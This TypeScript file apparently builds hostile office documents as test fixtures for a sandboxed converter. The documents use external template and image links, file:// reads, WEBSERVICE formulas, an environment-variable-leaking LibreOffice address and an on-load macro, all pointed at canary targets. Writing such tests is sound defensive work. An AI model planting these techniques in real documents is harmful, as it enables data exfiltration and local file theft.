import { zip } from './archive.ts';
import { docx, openDocument, paragraph } from './documents.ts';

/** Where a hostile document would like to look. */
export interface Canaries {
  /** A listener that should hear nothing. */
  http: string;
  /** A text file that should be shown nowhere. */
  text: string;
  /** A picture of one colour that should be seen nowhere. */
  picture: string;
  /** A file that should not come into being. */
  made: string;
}

export interface Hostile {
  name: string;
  extension: string;
  content: Buffer;
  /** LibreOffice does it whatever its switches say: only the sandbox stops it. */
  onlyContained?: boolean;
}

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** What a text of Word's links to: the part of it that does, and what kind of link it is. */
interface Link {
  type: 'image' | 'aFChunk' | 'subDocument';
  url: string;
}

const picture = (id: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3000000" cy="3000000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="3000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const BODY: Record<Link['type'], (id: string) => string> = {
  image: picture,
  aFChunk: (id) => `<w:altChunk r:id="${id}"/>`,
  subDocument: (id) => `<w:subDoc r:id="${id}"/>`,
};

/** A text full of links that is made after a template from elsewhere. */
function linkingText(links: Link[], template: string): Buffer {
  const relation = (id: string, type: string, target: string, more = ' TargetMode="External"') =>
    `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${more}/>`;
  const parts = links.map(({ type }, index) => BODY[type](`rId1${index}`));
  const relations = links.map(({ type, url }, index) => relation(`rId1${index}`, type, url));
  const settings = [
    {
      name: 'word/settings.xml',
      content: `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
    },
    {
      name: 'word/_rels/settings.xml.rels',
      content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('rId1', 'attachedTemplate', template)}</Relationships>`,
    },
  ];
  const body = `${paragraph('before')}${parts.join('')}`;
  return docx(body, settings, `${relations.join('')}${relation('rId8', 'settings', 'settings.xml', '')}`);
}

/** A presentation of one slide with linked pictures on it. */
function slideWithPictures(...urls: string[]): Buffer {
  const types = 'application/vnd.openxmlformats-officedocument.presentationml.';
  const names = `xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${REL}"`;
  const relations = (...all: string[]) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`;
  const relation = (type: string, target: string, more = '', id = 'rId1') =>
    `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${more}/>`;
  const group = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>';
  const shown = (_url: string, index: number) =>
    `<p:pic><p:nvPicPr><p:cNvPr id="${index + 2}" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="rId${index}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9000000" cy="6000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>`;
  return zip([
    {
      name: '[Content_Types].xml',
      content: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/ppt/presentation.xml" ContentType="${types}presentation.main+xml"/><Override PartName="/ppt/slides/slide1.xml" ContentType="${types}slide+xml"/></Types>`,
    },
    { name: '_rels/.rels', content: relations(relation('officeDocument', 'ppt/presentation.xml')) },
    {
      name: 'ppt/presentation.xml',
      content: `<p:presentation ${names}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`,
    },
    {
      name: 'ppt/_rels/presentation.xml.rels',
      content: relations(relation('slide', 'slides/slide1.xml')),
    },
    {
      name: 'ppt/slides/slide1.xml',
      content: `<p:sld ${names}><p:cSld><p:spTree>${group}${urls.map(shown).join('')}</p:spTree></p:cSld></p:sld>`,
    },
    {
      name: 'ppt/slides/_rels/slide1.xml.rels',
      content: relations(
        ...urls.map((url, index) => relation('image', url, ' TargetMode="External"', `rId${index}`)),
      ),
    },
  ]);
}

/** An address that LibreOffice fills in with a variable of its environment before it calls it. */
const expanded = (http: string) => `vnd.sun.star.expand:${encodeURIComponent(`${http}/`)}$CANARY`;

const frame = (inside: string) =>
  `<text:p><draw:frame text:anchor-type="as-char" svg:width="8cm" svg:height="8cm">${inside}</draw:frame></text:p>`;
const linkedImage = (url: string) =>
  frame(`<draw:image xlink:href="${url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`);
const section = (url: string) =>
  `<text:section text:name="s"><text:section-source xlink:href="${url}" xlink:type="simple"/><text:p>old</text:p></text:section>`;
const cell = (formula: string) =>
  `<table:table-cell table:formula="${formula}" office:value-type="string"><text:p>cached</text:p></table:table-cell>`;
const sheet = (cells: string) =>
  `<table:table table:name="a"><table:table-row>${cells}</table:table-row></table:table>`;

function workbook(...formulas: string[]): Buffer {
  const types = 'application/vnd.openxmlformats-officedocument.spreadsheetml.';
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const relations = (type: string, target: string) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/${type}" Target="${target}"/></Relationships>`;
  return zip([
    {
      name: '[Content_Types].xml',
      content: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${types}sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${types}worksheet+xml"/></Types>`,
    },
    { name: '_rels/.rels', content: relations('officeDocument', 'xl/workbook.xml') },
    { name: 'xl/_rels/workbook.xml.rels', content: relations('worksheet', 'worksheets/sheet1.xml') },
    {
      name: 'xl/workbook.xml',
      content: `<workbook xmlns="${main}" xmlns:r="${REL}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `<worksheet xmlns="${main}"><sheetData>${formulas.map((formula, index) => `<row r="${index + 1}"><c r="A${index + 1}" t="str"><f>${formula}</f></c><c r="B${index + 1}" t="inlineStr"><is><t>there</t></is></c></row>`).join('')}</sheetData></worksheet>`,
    },
  ]);
}

/** A text whose macro, run when it is opened, would leave a file. */
function withMacro(made: string): Buffer {
  const library = (element: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE library:${element} PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">`;
  const files = {
    'Basic/script-lc.xml': `${library('libraries')}<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
    'Basic/Standard/script-lb.xml': `${library('library')}<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`,
    'Basic/Standard/Module1.xml': `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\n Open "${made}" For Output As #1\n Print #1, "made"\n Close #1\nEnd Sub</script:module>`,
  };
  const content = `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:ooo="http://openoffice.org/2004/office" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts><office:body><office:text><text:p>harmless</text:p></office:text></office:body></office:document-content>`;
  const entry = (path: string, type = 'text/xml') =>
    `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="${type}"/>`;
  const mime = 'application/vnd.oasis.opendocument.text';
  return zip([
    { name: 'mimetype', content: mime, stored: true },
    { name: 'content.xml', content },
    ...Object.entries(files).map(([name, text]) => ({ name, content: text })),
    {
      name: 'META-INF/manifest.xml',
      content: `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">${entry('/', mime)}${['content.xml', ...Object.keys(files)].map((path) => entry(path)).join('')}</manifest:manifest>`,
    },
  ]);
}

const svg = (url: string) =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image width="200" height="200" xlink:href="${url}"/></svg>`,
  ).toString('base64');

const drawing = (url: string) =>
  frame(`<draw:image><office:binary-data>${svg(url)}</office:binary-data></draw:image>`);

/** Documents that try to look around, to call somebody, or to leave something: many ways in each. */
export function hostiles({ http, text, picture: image, made }: Canaries): Hostile[] {
  const of = (name: string, extension: string, content: Buffer): Hostile => ({ name, extension, content });
  const odt = (name: string, ...bodies: string[]) => of(name, 'odt', openDocument('text', bodies.join('')));
  const file = (path: string) => `file://${path}`;
  const object = `<draw:object-ole xlink:href="${http}/e" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`;
  return [
    of(
      'a Word text that links to pictures and texts, and has a template elsewhere',
      'docx',
      linkingText(
        [
          { type: 'image', url: `${http}/a.png` },
          { type: 'image', url: file(image) },
          { type: 'aFChunk', url: `${http}/a.docx` },
          { type: 'aFChunk', url: file(text) },
          { type: 'subDocument', url: `${http}/b.docx` },
          { type: 'subDocument', url: file(text) },
        ],
        `${http}/a.dotm`,
      ),
    ),
    of('a slide with linked pictures', 'pptx', slideWithPictures(`${http}/a.png`, file(image))),
    odt(
      'an OpenDocument text with links over http',
      linkedImage(`${http}/b.png`),
      section(`${http}/c.odt`),
      drawing(`${http}/d.png`),
      frame(object),
    ),
    odt('an OpenDocument text with links to this machine', linkedImage(file(image)), section(file(text))),
    odt('addresses that hold the environment', linkedImage(expanded(http)), section(expanded(http))),
    {
      ...odt('a drawing that contains a picture from this machine', drawing(file(image))),
      onlyContained: true,
    },
    of(
      'RTF fields that include a picture and a text, and a template elsewhere',
      'rtf',
      Buffer.from(
        `{\\rtf1{\\*\\template ${http}/i.dot} start {\\field{\\*\\fldinst INCLUDEPICTURE "${http}/f.png" \\\\d}{\\fldrslt }}{\\field{\\*\\fldinst INCLUDETEXT "${text}"}{\\fldrslt }}}`,
      ),
    ),
    of(
      'an Excel WEBSERVICE and a link to another workbook',
      'xlsx',
      workbook(`_xlfn.WEBSERVICE("${http}/g")`, `'${file(text)}'#$a.A1`),
    ),
    of(
      'an OpenDocument WEBSERVICE and a cell from a file of this machine',
      'ods',
      openDocument(
        'spreadsheet',
        sheet(
          cell(`of:=COM.MICROSOFT.WEBSERVICE(&quot;${http}/h&quot;)`) + cell(`of:=['${file(text)}'#$a.A1]`),
        ),
      ),
    ),
    of('a macro that runs when the text is opened', 'odt', withMacro(made)),
  ];
}
